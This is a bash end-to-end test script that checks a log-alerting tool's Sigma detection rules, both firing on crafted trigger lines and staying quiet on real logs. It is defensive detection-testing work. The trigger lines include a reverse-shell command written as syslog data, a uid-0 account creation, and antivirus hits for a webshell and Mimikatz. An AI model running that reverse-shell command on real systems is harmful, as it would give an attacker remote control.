#!/usr/bin/env bash
# Sigma rules through the CLI, with the shipped decoders of rules/default:
# the SigmaHQ corpus of ../shared/corpus/sigma lints clean beside the
# native rules (every rule loaded, none rejected), its Linux, antivirus and
# Defender rules fire on lines written to trigger them, and the real logs
# of ../shared/corpus/rootly raise no Sigma alert.  TAP output.
source "$(dirname "$0")/lib.sh"
e2e_setup

BIN="$TOCSIN_BIN/tocsin"
SIGMA="$CORPUS/sigma/rules"
DEF="$TOCSIN_TOP/rules/default"

if [ ! -d "$SIGMA" ]; then
	skip "Sigma corpus: not present"
	exit 0
fi

# lint: loads, no error, no rule left out
"$BIN" rules lint "$SIGMA" "$DEF" >"$T/lint.out" 2>"$T/lint.log"
rc=$?
nrules=$(find "$SIGMA" -name '*.yml' | wc -l)
if [ "$rc" = 0 ] && ! grep -q "not loaded" "$T/lint.out" "$T/lint.log"; then
	ok "lint: $nrules SigmaHQ rules load beside rules/default"
else
	not_ok "lint: SigmaHQ rules load beside rules/default (exit $rc)"
	sed 's/^/# /' "$T/lint.out" "$T/lint.log" | head -n 20
fi

# The rule set is loaded once (a load of the SigmaHQ corpus is most of the
# time under the sanitizers): the trigger lines and the real logs go
# through one `rules test --json` run, and each check picks its lines by
# source and line number from the output.
FIRES="$T/fires.txt"
: >"$FIRES"
NFIRE=0
FIRE_ID=(); FIRE_DESC=()
# fires LINE ID DESC: the line raises an alert of rule ID
fires() {
	printf '%s\n' "$1" >>"$FIRES"
	NFIRE=$((NFIRE + 1))
	FIRE_ID[$NFIRE]=$2; FIRE_DESC[$NFIRE]=$3
}

fires 'Nov 27 10:00:00 web1 clamd[812]: /var/www/up/x.php: Win.Trojan.Agent-1 FOUND' \
    36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb "ClamAV FOUND (linux/clamav keywords)"
fires 'Nov 27 10:00:00 web1 clamd[812]: /var/www/up/shell.php: Php.Webshell.Chopper-1 FOUND' \
    fdf135a2-9241-4f96-a114-bb404948f736 "ClamAV web shell (category antivirus, Signature)"
fires 'Nov 27 10:00:00 web1 clamd[812]: /var/www/up/shell.php: Php.Webshell.Chopper-1 FOUND' \
    c9a88268-0047-4824-ba6e-4d81ce0b907c "ClamAV relevant path (category antivirus, Filename)"
fires 'Nov 27 10:00:00 srv useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash' \
    0ac15ec3-d24f-4246-aa2a-3077bb1cf90e "useradd of a uid 0 user"
fires 'Nov 27 10:00:00 srv bash[999]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' \
    738d9bcf-6999-4fdb-b4ac-3033037db8ab "reverse shell command in syslog"
fires 'Nov 27 10:00:00 srv sshd[1]: Corrupted MAC on input.' \
    e76b413a-83d0-4b94-8e4c-85db4a5b8bdc "sshd suspicious message (service sshd)"
fires '{"EventID":5001,"Channel":"Microsoft-Windows-Windows Defender/Operational","Hostname":"pc1"}' \
    b28e58e4-2a72-4fae-bdee-0fbe904db642 "Defender real-time protection disabled (NXLog JSON)"
fires '{"winlog":{"channel":"Microsoft-Windows-Windows Defender/Operational","event_id":"1116","event_data":{"Threat Name":"Trojan:Win32/Mimikatz","Path":"C:\\Users\\x\\m.exe","Source Name":"AMSI"}}}' \
    57b649ef-ff42-4fb0-8bf6-62da243a1708 "Defender threat (Winlogbeat JSON)"

REAL=()
for f in "$CORPUS"/rootly/*.log; do
	[ -f "$f" ] && REAL+=("$f")
done
"$BIN" rules test --json -r "$SIGMA" -r "$DEF" "$FIRES" "${REAL[@]}" \
    >"$T/test.out" 2>>"$T/test.log"
rc=$?
check "rules test ran over the trigger lines and the real logs" test "$rc" = 0

# the trigger lines: line k raises FIRE_ID[k]
jq -c --arg s "$FIRES" 'select(.source == $s)' "$T/test.out" \
    >"$T/fires.out" 2>>"$T/test.log"
for k in $(seq 1 "$NFIRE"); do
	got=$(jq --argjson l "$k" --arg id "${FIRE_ID[$k]}" \
	    'select(.line == $l) | .alerts | any(.id == $id)' "$T/fires.out" \
	    2>>"$T/test.log")
	if [ "$got" = true ]; then
		ok "fires: ${FIRE_DESC[$k]}"
	else
		not_ok "fires: ${FIRE_DESC[$k]}"
		jq -c --argjson l "$k" 'select(.line == $l)' "$T/fires.out" |
		    cut -c 1-2000 | sed 's/^/# /'
	fi
done

# quiet on the real logs: the sources of the lines that raised a Sigma alert
# (SigmaHQ's file copy rule aside: its keywords 'sftp ' and ':' are found
# in sshd lines of user names like "cmsftp", because keywords search the
# whole line, time and tag included; tests/unit/test_sigma.c counts them)
jq -r 'select(.alerts | any((.groups | index("sigma")) and
    .id != "7a14080d-a048-4de8-ae58-604ce58a795b")) | .source' \
    "$T/test.out" >"$T/sigma-sources.txt" 2>>"$T/test.log"
jq_rc=$?
for f in "${REAL[@]}"; do
	c=$(grep -c -x -F "$f" "$T/sigma-sources.txt")
	if [ "$c" = 0 ] && [ "$rc" = 0 ] && [ "$jq_rc" = 0 ]; then
		ok "quiet: no Sigma alert on $(basename "$f")"
	else
		not_ok "quiet: $c Sigma alerts on $(basename "$f")"
		jq -c --arg s "$f" 'select(.source == $s) |
		    select(.alerts | any((.groups | index("sigma")) and
		    .id != "7a14080d-a048-4de8-ae58-604ce58a795b"))' \
		    "$T/test.out" | head -n 3 | cut -c 1-300 | sed 's/^/# /'
	fi
done

exit "$E2E_FAILED"
